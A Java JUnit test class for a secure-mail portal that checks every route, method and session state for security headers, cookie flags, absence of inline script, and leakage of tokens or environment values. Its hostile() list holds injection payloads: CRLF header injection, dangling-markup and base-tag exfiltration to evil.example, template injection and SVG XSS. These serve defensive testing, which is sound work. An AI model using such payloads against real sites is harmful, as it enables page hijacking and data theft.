package org.sealpost.portal.pages;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeSet;
import java.util.function.Consumer;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.sealpost.Unavailable;
import org.sealpost.mail.EmailAddress;
import org.sealpost.opening.PortalSession;
import org.sealpost.opening.SecretToken;
import org.sealpost.opening.SignInMethod;
import org.sealpost.opening.SignInWays;
import org.sealpost.opening.StartedSession;
import org.sealpost.opening.account.AccountProvider;
import org.sealpost.opening.account.AccountSignIn;
import org.sealpost.portal.AccountResult;
import org.sealpost.portal.DownloadResult;
import org.sealpost.portal.OpenSession;
import org.sealpost.portal.SessionList;
import org.sealpost.protection.PortalLink;

/// Every route, by every method, in every state of the browser and of what is behind the door
/// (threats 11, 27, 32, 33).
class EveryAnswerTest {
  /// All that the portal answers to, `{link}` standing for each link. The test below holds it
  /// against the sources: a route that is not in here is not looked at, and fails.
  private static final List<String> PATHS =
      List.of(
          "/",
          "/?language",
          "/m/{link}?language",
          "/nothing",
          "/signed-out",
          "/sign-out",
          "/sign-in/callback",
          "/sign-in/callback?code=c&state=s",
          "/sessions",
          "/inbox",
          "/inbox?after=1-2-x",
          "/verify",
          "/phrase",
          "/offline",
          "/manifest.webmanifest",
          "/worker.js",
          "/sessions/end",
          "/sessions/end-others",
          "/assets/portal.css",
          "/assets/portal.js",
          "/assets/answer.js",
          "/assets/answer.css",
          "/assets/seal.svg",
          "/favicon.ico",
          "/assets/brand/7a1f3d.css",
          "/m/{link}",
          "/passkeys/sign-in/options",
          "/passkeys/sign-in",
          "/passkeys/confirm/options",
          "/passkeys/confirm",
          "/passkeys/make/options",
          "/passkeys/make",
          "/passkeys/remove",
          "/m/{link}/sealed",
          "/m/{link}/passcode",
          "/m/{link}/code",
          "/m/{link}/account",
          "/m/{link}/without-account",
          "/m/{link}/switch",
          "/m/{link}/help",
          "/m/{link}/body",
          "/m/{link}/answer",
          "/m/{link}/answer?as=reply",
          "/m/{link}/answer?as=forward",
          "/m/{link}/upload",
          "/m/{link}/uploaded",
          "/m/{link}/sent",
          "/m/{link}/attachments/0",
          "/m/{link}/attachments/1",
          "/m/{link}/attachments/0/view",
          "/m/{link}/attachments/0/text",
          "/m/{link}/attachments/0/pages/0",
          "/m/{link}/attachments/0/pieces/0",
          "/m/{link}/text",
          "/m/{link}/conversation",
          "/m/{link}/print",
          "/m/{link}/message.eml",
          "/m/{link}/message.eml/pieces/0");

  private static final List<String> METHODS =
      List.of("GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "get", "");

  private static final List<String> LINKS =
      List.of(
          ScriptedDoor.VALID,
          ScriptedDoor.UNKNOWN,
          ScriptedDoor.REVOKED,
          ScriptedDoor.EXPIRED,
          ScriptedDoor.UNOPENABLE,
          ScriptedDoor.NOT_POSTED,
          ScriptedDoor.OTHER_MAILBOX,
          ScriptedDoor.STALE,
          ScriptedDoor.PASSKEY_NEEDED,
          ScriptedDoor.MALFORMED);

  /// What only the signed-in reader may see.
  private static final List<String> PERSONAL =
      List.of("Draft settlement", "Dear Bob", "alice@contoso.example", "bob@partner.example");

  private static final SecretToken ACCOUNT = new SecretToken("A".repeat(43));
  private static final Pattern ROUTE =
      Pattern.compile("case \"([^\"]+)\" ->|equals\\(\"([a-z-]+)\"\\)");

  @SuppressWarnings("ImmutableEnumChecker") // what prepares a visitor keeps nothing
  enum State {
    STRANGER(visitor -> {}),
    ASKED_FOR_A_PASSCODE(visitor -> visitor.withTicket(ScriptedDoor.VALID)),
    SIGNED_IN(Visitor::signedIn),
    OF_AN_ENDED_SESSION(visitor -> visitor.withCookie("__Host-sealpost-session=" + "Z".repeat(43))),
    AT_A_PROVIDER(visitor -> visitor.withCookie("__Host-sealpost-account=" + ACCOUNT.value())),
    PREFETCHING(visitor -> visitor.signedIn().withHeader("sec-purpose", "prefetch")),
    FROM_ANOTHER_SITE(visitor -> visitor.signedIn().withHeader("sec-fetch-site", "cross-site")),
    WITHOUT_STORES(
        visitor ->
            visitor.signedIn().door.failure =
                Optional.of(new Unavailable("secret", new IllegalStateException("secret")))),
    WITH_A_BUG(
        visitor ->
            visitor.signedIn().door.failure = Optional.of(new IllegalStateException("secret")));

    private final Consumer<Visitor> prepare;

    State(Consumer<Visitor> prepare) {
      this.prepare = prepare;
    }

    Visitor visitor() {
      Visitor visitor = new Visitor();
      ScriptedDoor door = visitor.door;
      AccountProvider google = new AccountProvider("google", "Google", AccountProvider.Kind.SOCIAL);
      door.ways = new SignInWays(true, List.of(google), true, Duration.ofHours(12), true);
      door.start =
          Optional.of(
              new AccountSignIn.Start(google, URI.create("https://accounts.example/"), ACCOUNT));
      door.attachments.put(0, new DownloadResult.Download("Draft settlement.pdf", new byte[] {1}));
      door.sessions =
          new SessionList(
              "bob@partner.example",
              List.of(
                  new OpenSession(
                      "id",
                      true,
                      org.sealpost.trace.Visitor.UNKNOWN,
                      "passcode",
                      false,
                      ScriptedDoor.SINCE,
                      ScriptedDoor.SINCE,
                      ScriptedDoor.SINCE)));
      door.accountResult =
          new AccountResult.SignedIn(
              PortalLink.parse(ScriptedDoor.VALID).orElseThrow(),
              new StartedSession(
                  ScriptedDoor.SESSION,
                  PortalSession.start(
                      ScriptedDoor.SESSION,
                      EmailAddress.of("bob@partner.example"),
                      SignInMethod.PASSCODE,
                      org.sealpost.trace.Visitor.UNKNOWN,
                      true,
                      PortalLink.parse(ScriptedDoor.VALID).orElseThrow(),
                      ScriptedDoor.SINCE)));
      prepare.accept(visitor);
      return visitor;
    }
  }

  /// One answer, and what led to it.
  record Given(State state, String method, String path, Response response, Visitor visitor) {
    boolean isAsset() {
      return path.startsWith("/assets/") || path.equals("/favicon.ico");
    }

    boolean isFrame() {
      return path.endsWith("/body")
          || path.endsWith("/attachments/0/text")
          || (path.endsWith("/print") && response.status() == 200);
    }

    String text() {
      return Visitor.text(response);
    }

    @Override
    public String toString() {
      return state + " " + method + " " + path + " " + response.status();
    }
  }

  /// Threat 32: no route is forgotten.
  @Test
  void inventoryShouldNameEveryRoute() throws IOException {
    TreeSet<String> routes = new TreeSet<>();
    for (Path source : sources("src/main/java/org/sealpost/portal/pages")) {
      String name = String.valueOf(source.getFileName());
      if (name.endsWith("Routes.java") || name.equals("Site.java")) {
        ROUTE
            .matcher(Files.readString(source))
            .results()
            .map(EveryAnswerTest::named)
            .forEach(routes::add);
      }
    }
    routes.removeAll(
        List.of("HEAD", "POST", "https", "yes", "forget", "null", "none", "same-origin"));

    assertThat(routes).hasSizeGreaterThan(12).contains("/sign-out", "passcode", "attachments");
    assertThat(routes)
        .allSatisfy(
            route ->
                assertThat(PATHS)
                    .as("route %s is in no test of every answer", route)
                    .anyMatch(
                        path ->
                            path.equals(route)
                                || path.contains("/" + route + "/")
                                || path.endsWith("/" + route)));
  }

  @ParameterizedTest
  @EnumSource
  void everyAnswerShouldTieTheBrowsersHands(State state) {
    assertThat(answers(state))
        .allSatisfy(
            given -> {
              Map<String, String> headers = given.response().headers();
              assertThat(headers)
                  .containsEntry("cross-origin-opener-policy", "same-origin")
                  .containsEntry("cross-origin-resource-policy", "same-origin")
                  .containsEntry("referrer-policy", "no-referrer")
                  .containsEntry("strict-transport-security", "max-age=63072000")
                  .containsEntry("x-content-type-options", "nosniff")
                  .containsKeys("permissions-policy", "x-frame-options", "x-robots-tag");
              assertThat(headers.get("content-security-policy"))
                  .startsWith("default-src 'none';")
                  .contains("frame-ancestors '" + (given.isFrame() ? "self" : "none") + "'")
                  .contains("base-uri 'none'")
                  .doesNotContain("unsafe-eval", "https:", "http:", "*", "script-src 'unsafe");
              if (!given.isFrame()) {
                assertThat(headers.get("content-security-policy")).doesNotContain("unsafe-inline");
              }
              if (!given.isAsset()) {
                assertThat(headers.get("cache-control")).isIn("no-store", "no-store, no-transform");
              }
              assertThat(headers.values())
                  .allSatisfy(value -> assertThat(value).doesNotContainPattern("\\p{Cntrl}"));
            });
  }

  @ParameterizedTest
  @EnumSource
  void everyCookieShouldBeForThisHostAndNoScript(State state) {
    assertThat(answers(state))
        .allSatisfy(
            given ->
                assertThat(given.response().cookies())
                    .allSatisfy(
                        cookie ->
                            assertThat(cookie)
                                .matches(
                                    "__Host-sealpost-[a-z0-9-]+=[A-Za-z0-9_.-]*"
                                        + "(; Max-Age=\\d+)?; Path=/; HttpOnly; SameSite=Lax;"
                                        + " Secure")));
  }

  /// Threat 27: with nothing inline there is no nonce to steal, and with no foreign address a tag
  /// that is left open has nowhere to send the page to.
  @ParameterizedTest
  @EnumSource
  void noPageShouldHoldAnythingInline(State state) {
    assertThat(answers(state))
        .filteredOn(given -> !given.isAsset() && !given.isFrame())
        .filteredOn(given -> isHtml(given.response()))
        .allSatisfy(
            given ->
                assertThat(given.text())
                    .doesNotContain("<style", " style=", "javascript:", "nonce=", "<base")
                    .doesNotContainPattern("<[a-z]+[^>]* on[a-z]+=")
                    .doesNotContainPattern("<script(?! src=\"/assets/)")
                    .doesNotContainPattern("(src|action)=[\"']?(https?:)?//"));
  }

  @ParameterizedTest
  @EnumSource
  void headShouldHaveNoBodyAndNoMethodShouldChangeAnythingButPost(State state) {
    assertThat(answers(state))
        .filteredOn(given -> !given.method().equals("POST"))
        .filteredOn(given -> !given.path().contains("callback"))
        .allSatisfy(
            given -> {
              assertThat(given.visitor().door.changes).isEmpty();
              assertThat(given.visitor().door.received).isEmpty();
              assertThat(given.response().cookies()).isEmpty();
              if (given.method().equals("HEAD")) {
                assertThat(given.response().body()).isEmpty();
              }
            });
  }

  /// Threat 32: each route has its test of who may ask.
  @ParameterizedTest
  @EnumSource(
      names = {"SIGNED_IN", "AT_A_PROVIDER"},
      mode = EnumSource.Mode.EXCLUDE)
  void nobodyButTheSignedInReaderShouldSeeAnything(State state) {
    assertThat(answers(state))
        .filteredOn(given -> state != State.FROM_ANOTHER_SITE || given.method().equals("POST"))
        .allSatisfy(
            given -> {
              assertThat(given.text()).doesNotContain(PERSONAL);
              assertThat(given.response().headers().values().toString()).doesNotContain(PERSONAL);
            });
  }

  /// Threat 11: a browser that looks ahead is told nothing and reaches nothing.
  @Test
  void prefetchShouldReachNothing() {
    assertThat(answers(State.PREFETCHING))
        .filteredOn(given -> !given.isAsset())
        .allSatisfy(
            given -> {
              assertThat(given.response().status()).isEqualTo(403);
              assertThat(given.visitor().door.changes).isEmpty();
              assertThat(given.visitor().door.reads).isZero();
            });
  }

  /// Threat 24: tokens stay in cookies.
  @ParameterizedTest
  @EnumSource
  void noAnswerShouldCarryATokenOutsideOfItsCookie(State state) {
    assertThat(answers(state))
        .allSatisfy(
            given -> {
              List<String> tokens =
                  List.of(
                      ScriptedDoor.SESSION.value(),
                      ScriptedDoor.TICKET.token().value(),
                      ACCOUNT.value());
              assertThat(given.text()).doesNotContain(tokens);
              assertThat(given.response().headers().values().toString()).doesNotContain(tokens);
            });
  }

  /// Threat 32: whatever stands in the environment, secrets among it, is in no answer.
  @ParameterizedTest
  @EnumSource
  void noAnswerShouldHoldTheEnvironmentOrWhatWasThrown(State state) {
    List<String> environment =
        Stream.concat(
                System.getenv().values().stream(),
                Stream.of("java.home", "user.dir", "java.class.path").map(System::getProperty))
            .filter(value -> value.length() > 11)
            .toList();

    assertThat(environment).isNotEmpty();
    assertThat(answers(state))
        .allSatisfy(
            given ->
                assertThat(given.text())
                    .doesNotContain(environment)
                    .doesNotContain("Exception", "org.sealpost", "secret"));
  }

  @ParameterizedTest
  @EnumSource(names = {"WITHOUT_STORES", "WITH_A_BUG"})
  void failureShouldBeASentenceACodeAndARequest(State state) {
    assertThat(answers(state))
        .filteredOn(given -> given.response().status() == 503)
        .filteredOn(given -> !given.method().equals("HEAD") && !given.isFrame())
        .isNotEmpty()
        .allSatisfy(
            given -> {
              assertThat(given.text()).contains("Code try-again · Request request-1");
              assertThat(given.response().headers()).containsEntry("retry-after", "120");
            });
  }

  static Stream<String> hostile() {
    return Stream.of(
        "\r\nSet-Cookie: a=b",
        "%0d%0aSet-Cookie:%20a=b",
        "\u0000",
        "\u2028x",
        "\u00e5\u0085x",
        "<img src='https://evil.example/?",
        "<meta http-equiv=refresh content='0;url=https://evil.example",
        "<base href='https://evil.example/'><form action=//evil.example><textarea>",
        "${7*7}#{7*7}${System.getenv()}{0}@template.layout()",
        "'\"><svg onload=alert(1)>",
        "A".repeat(9000));
  }

  /// Threats 27, 32, 33: in every field that comes from outside.
  @ParameterizedTest
  @MethodSource("hostile")
  void whatComesFromOutsideShouldStandNowhereAsItCame(String text) {
    List<Response> answers = new ArrayList<>();
    for (State state : List.of(State.STRANGER, State.SIGNED_IN)) {
      for (String path : PATHS) {
        Visitor visitor = state.visitor();
        visitor.door.accountResult = new AccountResult.Refused(Optional.of(text));
        visitor
            .withHeader("user-agent", text)
            .withHeader("accept-language", text)
            .withHeader("referer", text)
            .withHeader("purpose", text)
            .withCookie("__Host-sealpost-account=" + text)
            .withCookie(Visitor.ticketName(ScriptedDoor.VALID) + "=" + text);
        String at = path.replace("{link}", text.replace("/", ""));
        answers.add(visitor.get(at));
        answers.add(visitor.get(at + "?state=" + text + "&code=" + text));
        for (String link : List.of(ScriptedDoor.VALID, text.replace("/", ""))) {
          answers.add(
              visitor.post(
                  path.replace("{link}", link),
                  "code",
                  text,
                  "provider",
                  text,
                  "id",
                  text,
                  "csrf",
                  text,
                  "keep",
                  text,
                  "as",
                  text,
                  "do",
                  text));
        }
      }
    }

    assertThat(answers)
        .allSatisfy(
            answer -> {
              assertThat(answer.status()).isLessThan(500);
              assertThat(answer.headers().values())
                  .allSatisfy(value -> assertThat(value).matches("[\\x20-\\x7e]*"));
              assertThat(answer.headers().getOrDefault("location", "/")).matches("/[^/\\\\].*|/");
              assertThat(Visitor.text(answer))
                  .doesNotContain(
                      "<img src='https://evil", "<base href", "<svg onload", "url=https")
                  .doesNotContain("49#49");
            });
  }

  private static List<Given> answers(State state) {
    List<Given> answers = new ArrayList<>();
    for (String path : PATHS) {
      for (String link : path.contains("{link}") ? LINKS : List.of("")) {
        for (String method : METHODS) {
          String at = path.replace("{link}", link.replace("/", ""));
          Visitor visitor = state.visitor();
          answers.add(new Given(state, method, at, answer(visitor, method, at), visitor));
        }
      }
    }
    return answers;
  }

  private static Response answer(Visitor visitor, String method, String path) {
    if (!method.equals("POST")) {
      return visitor.send(method, path, new byte[0]);
    }
    return visitor.post(
        path,
        "csrf",
        Csrf.of(ScriptedDoor.SESSION),
        "code",
        ScriptedDoor.PASSCODE,
        "provider",
        path.endsWith("/account") ? "google" : "",
        "as",
        "reply",
        "do",
        "send",
        "bytes",
        "1",
        "text",
        "Thank you",
        "id",
        "id");
  }

  private static boolean isHtml(Response response) {
    return response.headers().getOrDefault("content-type", "").startsWith("text/html");
  }

  private static String named(MatchResult route) {
    return route.group(1) == null ? route.group(2) : route.group(1);
  }

  private static List<Path> sources(String folder) throws IOException {
    try (Stream<Path> files = Files.walk(Path.of(folder))) {
      return files.filter(Files::isRegularFile).toList();
    }
  }
}
